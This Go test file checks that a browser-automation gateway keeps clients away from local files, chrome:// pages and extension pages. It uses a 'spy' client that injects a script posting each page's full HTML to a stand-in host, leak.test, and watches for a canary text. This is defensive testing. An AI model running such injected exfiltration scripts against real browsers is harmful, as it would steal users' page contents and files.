package browser

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image/png"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/coder/websocket"

	"warren/testnet"
)

// canary is a folder with a page that no client may read: its text is random, and its picture has one color.
type canary struct {
	folder, file, text string
	known              string // another file, whose name the client knows

	mu      sync.Mutex
	arrived []string // the ways by which its text has leaked
}

func randText() string { return rand.Text() }

func newCanary(t *testing.T) *canary {
	t.Helper()
	c := &canary{folder: t.TempDir(), text: strings.ToLower("canary" + randText())}
	c.file, c.known = filepath.Join(c.folder, c.text+".html"), filepath.Join(c.folder, "known.html")
	page := fmt.Sprintf(`<title>%[1]s</title><body style="background: rgb(255, 0, 254)"><p id=%[1]s>%[1]s</p>`, c.text)
	for _, file := range []string{c.file, c.known} {
		if err := os.WriteFile(file, []byte(page), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

// look searches a message for the text, plain and in base64 at any offset.
func (c *canary) look(way string, raw []byte) {
	found := bytes.Contains(raw, []byte(c.text))
	for skip := range 3 {
		coded := base64.StdEncoding.EncodeToString([]byte(strings.Repeat(" ", skip) + c.text))
		found = found || bytes.Contains(raw, []byte(coded[4:len(coded)-4]))
	}
	if found {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.arrived = append(c.arrived, way+": "+string(raw[:min(len(raw), 1000)]))
	}
}

func (c *canary) ways() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.arrived)
}

// spy is a client that attaches to everything and requests the document of each recent session as fast as it can.
type spy struct {
	t      *testing.T
	socket *websocket.Conn
	canary *canary
	done   chan struct{}

	mu       sync.Mutex
	last     int
	waits    map[int]chan message
	sessions []string
	attached []TargetInfo
	told     []TargetInfo
	ended    []string
}

// leak sends the document to the spy's site, wherever the script runs.
const leak = `fetch("http://leak.test/leak", {method: "POST", mode: "no-cors", body: document.documentElement.outerHTML})`

func newSpy(t *testing.T, b *Browser, c *canary) *spy { t.Helper(); return newSpyWith(t, b, c, true) }

// newSpyWith connects a spy with or without access to this machine's files.
func newSpyWith(t *testing.T, b *Browser, c *canary, files bool) *spy {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), testnet.Patience)
	defer cancel()
	socket, _, err := websocket.Dial(ctx, strings.Replace(serveGatewayTo(t, b, files), "http://", "ws://", 1)+"/", nil)
	if err != nil {
		t.Fatal(err)
	}
	socket.SetReadLimit(-1)
	s := &spy{t: t, socket: socket, canary: c, waits: map[int]chan message{}, done: make(chan struct{})}
	go s.read()
	t.Cleanup(func() { socket.CloseNow(); <-s.done })
	s.ask("", "Target.setDiscoverTargets", map[string]any{"discover": true})
	s.ask("", "Target.setAutoAttach", map[string]any{"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true})
	return s
}

func (s *spy) read() {
	defer close(s.done)
	for {
		_, raw, err := s.socket.Read(context.Background())
		if err != nil {
			return
		}
		var m message
		if json.Unmarshal(raw, &m) != nil {
			continue
		}
		var p struct {
			SessionID  string     `json:"sessionId"`
			TargetInfo TargetInfo `json:"targetInfo"`
			Data       []byte     `json:"data"`
		}
		_ = json.Unmarshal(m.Params, &p)
		if m.Method == "Target.attachedToTarget" {
			s.prepare(p.SessionID)
		}
		s.mu.Lock()
		wait := s.waits[m.ID]
		delete(s.waits, m.ID)
		switch m.Method {
		case "Target.attachedToTarget":
			s.sessions, s.attached = append(s.sessions, p.SessionID), append(s.attached, p.TargetInfo)
		case "Target.targetCreated", "Target.targetInfoChanged":
			s.told = append(s.told, p.TargetInfo)
		case "Target.detachedFromTarget":
			s.ended = append(s.ended, p.SessionID)
		}
		s.mu.Unlock()
		s.canary.look("the socket", raw)
		_ = json.Unmarshal(m.Result, &p)
		if picture, err := png.Decode(bytes.NewReader(p.Data)); err == nil {
			at := picture.Bounds().Max
			if r, g, b, _ := picture.At(at.X/2, at.Y/2).RGBA(); r>>8 == 255 && g == 0 && b>>8 == 254 {
				s.canary.look("a picture", []byte(s.canary.text))
			}
		}
		if wait != nil {
			wait <- m
		}
	}
}

func (s *spy) send(session, method string, params any) <-chan message {
	s.mu.Lock()
	s.last++
	wait := make(chan message, 1)
	s.waits[s.last] = wait
	command := map[string]any{"id": s.last, "method": method}
	s.mu.Unlock()
	if params != nil {
		command["params"] = params
	}
	if session != "" {
		command["sessionId"] = session
	}
	raw, _ := json.Marshal(command)
	_ = s.socket.Write(context.Background(), websocket.MessageText, raw)
	return wait
}

func (s *spy) ask(session, method string, params any) message {
	s.t.Helper()
	answer := s.send(session, method, params)
	select {
	case m := <-answer:
		return m
	case <-s.done:
		select {
		case m := <-answer: // it came before the end
			return m
		default:
		}
		s.t.Fatalf("%s: the socket ended", method)
	case <-time.After(testnet.Patience):
		s.t.Fatalf("%s: no answer", method)
	}
	return message{}
}

// prepare sends a new session its first commands and resumes the target.
func (s *spy) prepare(session string) {
	for _, c := range []struct {
		method string
		params map[string]any
	}{
		{"Target.setAutoAttach", map[string]any{"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true}},
		{"Page.enable", nil}, {"Runtime.enable", nil}, {"DOM.enable", nil}, {"Network.enable", nil}, {"Log.enable", nil},
		{"DOMSnapshot.enable", nil}, {"Accessibility.enable", nil},
		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": leak + `; addEventListener("load", () => ` + leak + `)`}},
		{"Page.startScreencast", map[string]any{"format": "png"}}, {"Page.setLifecycleEventsEnabled", map[string]any{"enabled": true}},
		{"Runtime.runIfWaitingForDebugger", nil},
	} {
		s.send(session, c.method, c.params)
	}
}

// poll queries every session until stop is closed.
func (s *spy) poll(stop <-chan struct{}) {
	for {
		s.mu.Lock()
		sessions := slices.Clone(s.sessions[max(0, len(s.sessions)-6):])
		s.mu.Unlock()
		for _, session := range append(sessions, "") {
			for method, params := range map[string]map[string]any{
				"Runtime.evaluate":            {"expression": leak + `, document.documentElement.outerHTML`},
				"DOM.getDocument":             {"depth": -1, "pierce": true},
				"DOMSnapshot.captureSnapshot": {"computedStyles": []string{}}, "Page.getResourceTree": nil,
				"Page.getNavigationHistory": nil, "Page.getFrameTree": nil,
				"Accessibility.getFullAXTree": nil, "Page.captureSnapshot": nil, "Page.captureScreenshot": {"optimizeForSpeed": true},
				"Target.getTargets":    nil,
				"Target.getTargetInfo": nil, "Storage.getStorageKeyForFrame": {"frameId": "x"},
			} {
				s.send(session, method, params)
			}
		}
		select {
		case <-s.send("", "Browser.getVersion", nil): // limits the queries to what the browser can answer
		case <-s.done:
			return
		case <-stop:
			return
		}
		select {
		case <-stop:
			return
		default:
		}
	}
}

// site collects what the spy's scripts send.
func (c *canary) site(n *testnet.Site) {
	n.Mux.HandleFunc("/leak", func(_ http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		c.look("the network", raw)
	})
	n.Mux.HandleFunc("/canary", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		raw, _ := os.ReadFile(c.file)
		_, _ = w.Write(raw)
	})
}

// closed returns addresses that are blocked for clients.
func (c *canary) closed() []string {
	return []string{
		"file://" + c.known, "file://" + c.folder + "/", "view-source:file://" + c.known, "chrome://version/", "chrome://settings/",
		"chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html", "devtools://devtools/bundled/inspector.html",
	}
}

// withExtension loads an extension, as no client can, and returns a function that runs a script in it.
func withExtension(t *testing.T, b *Browser) (run func(script string)) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		"manifest.json": `{"manifest_version": 3, "name": "tabs", "version": "1", "permissions": ["tabs"], "background": ` +
			`{"service_worker": "w.js"}}`,
		"w.js": `self.there = 1`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := b.mux.call(t.Context(), "", "Extensions.loadUnpacked", map[string]string{"path": dir}, nil); err != nil {
		t.Fatal(err)
	}
	worker := ""
	testnet.Eventually(t, "the extension's worker", func() bool {
		for _, s := range b.mux.controllerSessions("") {
			if s.kind == "service_worker" {
				worker = s.id
			}
		}
		return worker != ""
	})
	testnet.Eventually(t, "its APIs", func() bool {
		var r struct{ Result struct{ Value string } }
		err := b.mux.call(t.Context(), worker, "Runtime.evaluate", map[string]string{"expression": "typeof chrome.tabs.create"}, &r)
		return err == nil && r.Result.Value == "function"
	})
	return func(script string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), testnet.Patience)
		defer cancel()
		params := map[string]any{
			"expression": "(async () => { try { " + script + " } catch (e) { return String(e) } })()", "awaitPromise": true,
			"returnByValue": true}
		if err := b.mux.call(ctx, worker, "Runtime.evaluate", params, nil); err != nil {
			t.Errorf("%s: %v", script, err)
		}
	}
}

// TestExtensionsThatReadFiles: a client cannot reach a page of an extension that may read files of this machine.
func TestExtensionsThatReadFiles(t *testing.T) {
	testnet.Long(t)
	b, _, _ := startGuarded(t)
	c := dial(t, serveGateway(t, b)+"/")
	// attaches to a file's page
	for _, may := range []string{`"host_permissions": ["<all_urls>"]`, `"permissions": ["debugger"]`} {
		refusesExtension(t, b, c, may)
	}
}

func refusesExtension(t *testing.T, b *Browser, c *tester, may string) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		"manifest.json": `{"manifest_version": 3, "name": "reads", "version": "1", ` + may + `}`,
		"page.html":     `<title>page</title>`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	id := field(t, call(t, b, "", "Extensions.loadUnpacked", map[string]string{"path": dir}), "id")
	testnet.Eventually(t, "Chrome has written that it is installed", func() bool {
		text, _ := os.ReadFile(filepath.Join(b.extensions.folder, "Secure Preferences"))
		more, _ := os.ReadFile(filepath.Join(b.extensions.folder, "Preferences"))
		return bytes.Contains(append(text, more...), []byte(id))
	})
	if m := c.try("", "Target.createTarget", map[string]any{"url": "chrome-extension://" + id + "/page.html"}); m.Error == nil ||
		m.Error.Message != notOpened {
		t.Errorf("with %s its page was opened: %s %v", may, m.Result, m.Error)
	}
}

// inBothModes runs a test in a namespace, and as an ordinary user without one.
func inBothModes(t *testing.T, test func(t *testing.T, network string)) {
	t.Run(InNamespace, func(t *testing.T) {
		if os.Getenv(insideMark) != "" {
			t.Skip("is the ordinary user's process; the one that started it takes the namespace")
		}
		needsNamespace(t)
		test(t, InNamespace)
	})
	t.Run(OnLoopback, func(t *testing.T) {
		if os.Geteuid() != 0 {
			test(t, OnLoopback)
			return
		}
		home, err := os.MkdirTemp("", "wh")
		if err != nil {
			t.Fatal(err)
		}
		defer os.RemoveAll(home)
		if err := os.Chmod(home, 0o777); err != nil {
			t.Fatal(err)
		}
		t.Setenv("HOME", home)
		t.Setenv("TMPDIR", home)
		inside(t, OnLoopback, &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1999, Gid: 1999}})
	})
}

// TestClosedPages: a tab may go to a file, or to one of Chrome's own pages, in many ways. No client gets a byte of it or a session on it,
// and the tab is closed.
func TestClosedPages(t *testing.T) {
	testnet.Long(t)
	inBothModes(t, func(t *testing.T, network string) {
		p, c := newProfile(t), newCanary(t)
		c.site(p.site)
		spec := p.spec()
		spec.Network = network
		b := p.open(spec)
		if err := b.Start(t.Context()); err != nil {
			t.Fatal(err)
		}
		run := withExtension(t, b)
		s := newSpy(t, b, c)
		stop, stopped := make(chan struct{}), make(chan struct{})
		go func() { defer close(stopped); s.poll(stop) }()
		closes := func(way string) {
			t.Helper()
			var targets []TargetInfo
			defer func() {
				if t.Failed() {
					t.Logf("the canary came %d times; open are %+v", len(c.ways()), targets)
				}
			}()
			testnet.Eventually(t, way+": no page at a closed address", func() (none bool) {
				var err error
				targets, err = b.mux.targets(t.Context())
				return err == nil &&
					!slices.ContainsFunc(targets, func(i TargetInfo) bool { return i.Type == "page" && b.extensions.isBlocked(i.URL) })
			})
		}
		tries := 0
		for _, address := range c.closed() {
			for way, do := range map[string]func(tab Page){
				"navigate": func(tab Page) {
					_ = b.mux.call(t.Context(), tab.Session, "Page.navigate", map[string]any{"url": address}, nil)
				},
				"a new tab": func(Page) {
					_ = b.mux.call(t.Context(), "", "Target.createTarget", map[string]any{"url": address}, nil)
				},
				"an extension's new tab": func(Page) { run(fmt.Sprintf(`await chrome.tabs.create({url: %q})`, address)) },
				"an extension's window":  func(Page) { run(fmt.Sprintf(`await chrome.windows.create({url: %q})`, address)) },
				"an extension's change": func(tab Page) {
					run(fmt.Sprintf(`const [t] = (await chrome.tabs.query({})).filter(t => t.url.startsWith("http")); await `+
						`chrome.tabs.update(t.id, {url: %q})`, address))
				},
				"scripts": func(tab Page) {
					script := fmt.Sprintf(`document.body.append(Object.assign(document.createElement("iframe"), {src: %[1]q})); `+
						`window.open(%[1]q); location = %[1]q; 1`, address)
					_ = b.mux.call(
						t.Context(), tab.Session, "Runtime.evaluate", map[string]any{"expression": script, "userGesture": true}, nil)
				},
			} {
				tab := s.tab(b, "http://a.test/innocent")
				do(tab)
				closes(way + " to " + address)
				b.closeAndWait(tab.Target)
				tries++
			}
		}
		tab := s.tab(b, "http://a.test/innocent")
		s.drop(tab.Target, c.known, c.folder)
		closes("a drop")
		close(stop)
		<-stopped
		s.ask("", "Browser.getVersion", nil)
		if got := c.ways(); len(got) > 0 {
			t.Errorf("after %d tries the canary came %d times, first by %q", tries, len(got), got[:min(len(got), 8)])
		}
		s.knowsNothing(b)
		// The search works at all.
		s.tab(b, "http://a.test/canary")
		again := make(chan struct{})
		go s.poll(again)
		testnet.Eventually(t, "the canary comes from the web, over the socket, as a picture and over the network", func() bool {
			all := strings.Join(c.ways(), "\n")
			return strings.Contains(all, "the socket") && strings.Contains(all, "a picture") && strings.Contains(all, "the network")
		})
		close(again)
	})
}

// tab opens a page and attaches the spy to it.
func (s *spy) tab(b *Browser, address string) Page {
	s.t.Helper()
	m := s.ask("", "Target.createTarget", map[string]any{"url": address})
	target := field(s.t, m.Result, "targetId")
	var found Page
	testnet.Eventually(s.t, "a tab at "+address, func() bool {
		targets, err := b.mux.targets(s.t.Context())
		p, ok := b.mux.controller.page(target)
		found = p
		return ok && err == nil && slices.ContainsFunc(targets, func(i TargetInfo) bool { return i.TargetID == target && i.URL == address })
	})
	return found
}

// drop drags files to a page that does not accept them.
func (s *spy) drop(target string, files ...string) {
	s.t.Helper()
	session := field(s.t, s.ask("", "Target.attachToTarget", map[string]any{"targetId": target, "flatten": true}).Result, "sessionId")
	for _, kind := range []string{"dragEnter", "dragOver", "drop"} {
		data := map[string]any{"items": []any{}, "files": files, "dragOperationsMask": 1}
		s.ask(session, "Input.dispatchDragEvent", map[string]any{"type": kind, "x": 50, "y": 50, "data": data})
	}
}

// knowsNothing checks that the client has neither been told of a blocked target nor been attached to one.
func (s *spy) knowsNothing(b *Browser) {
	s.t.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	for what, all := range map[string][]TargetInfo{"attached to": s.attached, "told of": s.told} {
		for _, info := range all {
			if b.extensions.isBlocked(info.URL) {
				s.t.Errorf("the client was %s %s %s", what, info.Type, info.URL)
			}
		}
	}
}

// TestPersonsPages: in a browser with windows a person's files and settings stay open. Clients are detached from the tab meanwhile, and
// attached again afterwards.
func TestPersonsPages(t *testing.T) {
	testnet.Long(t)
	p, c := newProfile(t), newCanary(t)
	c.site(p.site)
	spec := p.spec()
	spec.Headless = false
	spec.ExtraEnv = []string{"DISPLAY=" + testnet.Display(t), "WAYLAND_DISPLAY=", "XDG_SESSION_TYPE=x11"}
	b := p.open(spec)
	if err := b.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	s := newSpy(t, b, c)
	stop, stopped := make(chan struct{}), make(chan struct{})
	go func() { defer close(stopped); s.poll(stop) }()
	for i, address := range []string{
		"file://" + c.file, "file://" + c.folder + "/", "view-source:file://" + c.file, "chrome://settings/", "chrome://newtab/",
		"chrome://version/"} {
		tab := s.tab(b, fmt.Sprintf("http://a.test/before%d", i))
		ctx, cancel := context.WithTimeout(t.Context(), testnet.Patience)
		defer cancel()
		var went struct{ ErrorText string }
		if err := b.mux.call(ctx, tab.Session, "Page.navigate", map[string]any{"url": address}, &went); err != nil ||
			went.ErrorText != "" && !strings.Contains(address, "newtab") {
			t.Errorf("a person goes to %s: %v %s", address, err, went.ErrorText)
		}
		var said string
		t.Cleanup(func() {
			if t.Failed() {
				t.Logf("on the way to %s the tab said %s", address, said)
			}
		})
		testnet.Eventually(t, "the person's page is shown: "+address, func() bool {
			var at string
			err := b.mux.controller.evaluate(ctx, Page{Target: tab.Target, Session: tab.Session}, "location.href", &at)
			said = fmt.Sprint(at, err)
			return err == nil && b.extensions.isBlocked(at)
		})
		for method, params := range map[string]map[string]any{
			"Target.attachToTarget": {"targetId": tab.Target, "flatten": true}, "Target.getTargetInfo": {"targetId": tab.Target},
			"Target.closeTarget": {"targetId": tab.Target}} {
			if m := s.ask("", method, params); m.Error == nil || m.Error.Message != noSuchTarget {
				t.Errorf("%s of a tab at %s: %s %v", method, address, m.Result, m.Error)
			}
		}
		if _, err := b.Screenshot(ctx, ScreenshotOptions{Tab: tab.Target, Format: "png"}); err == nil {
			t.Errorf("a picture of a tab at %s was taken", address)
		}
		had := s.sessionsOn(tab.Target)
		after := fmt.Sprintf("http://a.test/after%d", i)
		if err := b.mux.call(ctx, tab.Session, "Page.navigate", map[string]any{"url": after}, nil); err != nil {
			t.Fatal(err)
		}
		testnet.Eventually(t, "the client is on the tab again at "+after, func() bool { return s.sessionsOn(tab.Target) > had })
	}
	tab := s.tab(b, "http://a.test/drop")
	s.drop(tab.Target, c.known)
	testnet.Eventually(t, "no tab for a file that a client dropped", func() bool {
		targets, err := b.mux.targets(t.Context())
		return err == nil && !slices.ContainsFunc(targets, func(i TargetInfo) bool { return isFile(i.URL) })
	})
	close(stop)
	<-stopped
	s.ask("", "Browser.getVersion", nil)
	if got := c.ways(); len(got) > 0 {
		t.Errorf("the canary came %d times, first by %q", len(got), got[:min(len(got), 8)])
	}
	s.knowsNothing(b)
}

func (s *spy) sessionsOn(target string) (n int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, info := range s.attached {
		if info.TargetID == target {
			n++
		}
	}
	return n
}
